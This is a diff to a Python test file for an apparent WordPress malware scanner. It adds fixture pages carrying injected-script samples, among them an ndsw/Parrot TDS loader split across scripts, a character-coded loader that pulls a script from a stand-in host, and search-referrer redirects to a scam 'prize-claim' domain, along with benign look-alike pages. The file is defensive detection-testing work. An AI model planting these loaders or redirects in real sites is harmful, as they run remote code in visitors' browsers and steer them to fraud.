@@ -274,7 +274,33 @@ SKIM_JQUERY_AJAX = (
     "'https://flightpay-gateway.test/gateway/app/dataprocessing/api/',data:t,dataType:"
     "'application/json'})},500)})};</script>")
 
+# what one script hands the next, as the browser runs them in one scope: ndsw's string
+# table in one script and its loader in the next; Balada's char-coded address kept in a
+# name for the loader after it; a redirect kit's rule in a settings script
+_TABLE_END = NDSW_RENAMED.index("var ndsw=true;")
+NDSW_SPLIT = (NDSW_RENAMED[:_TABLE_END].replace(";if(ndsw===undefined){", "") + "</script>\n"
+              "<script>;if(ndsw===undefined){" + NDSW_RENAMED[_TABLE_END:])
+BALADA_SPLIT = (
+    "<script>var _wpx_u=String.fromCharCode("
+    f"{_codes('https://stay.linestoget.test/scripts/check.js?v=9')});</script>\n<script>var s="
+    "document.createElement('script');s.src=_wpx_u;document.getElementsByTagName('head')[0]."
+    "appendChild(s);</script>")
+KIT_RULE = (
+    "<script>var _rdr={u:'https://prize-claim-center.test/?s=hg',r:'google|bing|yahoo'};"
+    "</script>\n<script>if(new RegExp(_rdr.r).test(document.referrer)){window.location.href="
+    "_rdr.u;}</script>")
+
 FAMILIES: list[tuple[str, dict[str, str], tuple[str, Severity]]] = [
+    ("ndsw / Parrot TDS, its string table one script before its loader, wp_footer",
+     {"footer": NDSW_SPLIT}, ("tds-loader", H)),
+    ("Balada char-code address in one script, its loader in the next, head",
+     {"head": BALADA_SPLIT}, ("obfuscated-script", H)),
+    ("a redirect kit's rule in a settings script, the redirect in the next, wp_footer",
+     {"footer": KIT_RULE}, ("redirect", H)),
+    ("a referrer-gated redirect to a name its script assigns the address, wp_footer",
+     {"footer": "<script>var target_url='https://prize-claim-center.test/?s=hg';if(/google|"
+      "bing/.test(document.referrer)){location.replace(target_url);}</script>"},
+     ("redirect", H)),
     ("ndsw / Parrot TDS, plain, wp_footer", {"footer": NDSW}, ("tds-loader", H)),
     ("ndsw / Parrot TDS, obfuscated, wp_footer", {"footer": NDSW_OBFUSCATED}, ("tds-loader", H)),
     ("ndsw / Parrot TDS, string table renamed, wp_footer", {"footer": NDSW_RENAMED},
@@ -388,6 +414,15 @@ def test_the_clean_page_has_no_finding(audit_listed: AuditListed) -> None:
 # nothing at random, a breaking-news push prompt, Chrome's own download page link, a
 # language redirect behind a cookie, a CDN failover among one vendor's mirrors.
 TWINS: list[tuple[str, dict[str, str]]] = [
+    ("a settings script's shop address the next script opens on a click", {"footer": (
+        "<script>var shopUrl='https://shop.harbourmedia-group.test/';</script>\n<script>"
+        "document.getElementById('shop').onclick=function(){location.href=shopUrl;};"
+        "</script>")}),
+    ("WordPress' localized settings read by the next script", {"footer": (
+        '<script id="gazette-js-extra">var gazetteVars={"ajaxurl":"https:\\/\\/www.'
+        'harbourgazette.example\\/wp-admin\\/admin-ajax.php","cdn":"https://static.'
+        'harbourmedia-cdn.test/"};</script>\n<script>jQuery.post(gazetteVars.ajaxurl,{action:'
+        "'views',id:4187});</script>")}),
     ("a notice a script hides once it runs, its one link in prose", {"footer": (
         '<div id="js-warning"><p>This timetable works best with JavaScript on; the printable '
         'version is at <a href="https://timetables.ferrylink.test/print">the operator\'s site'
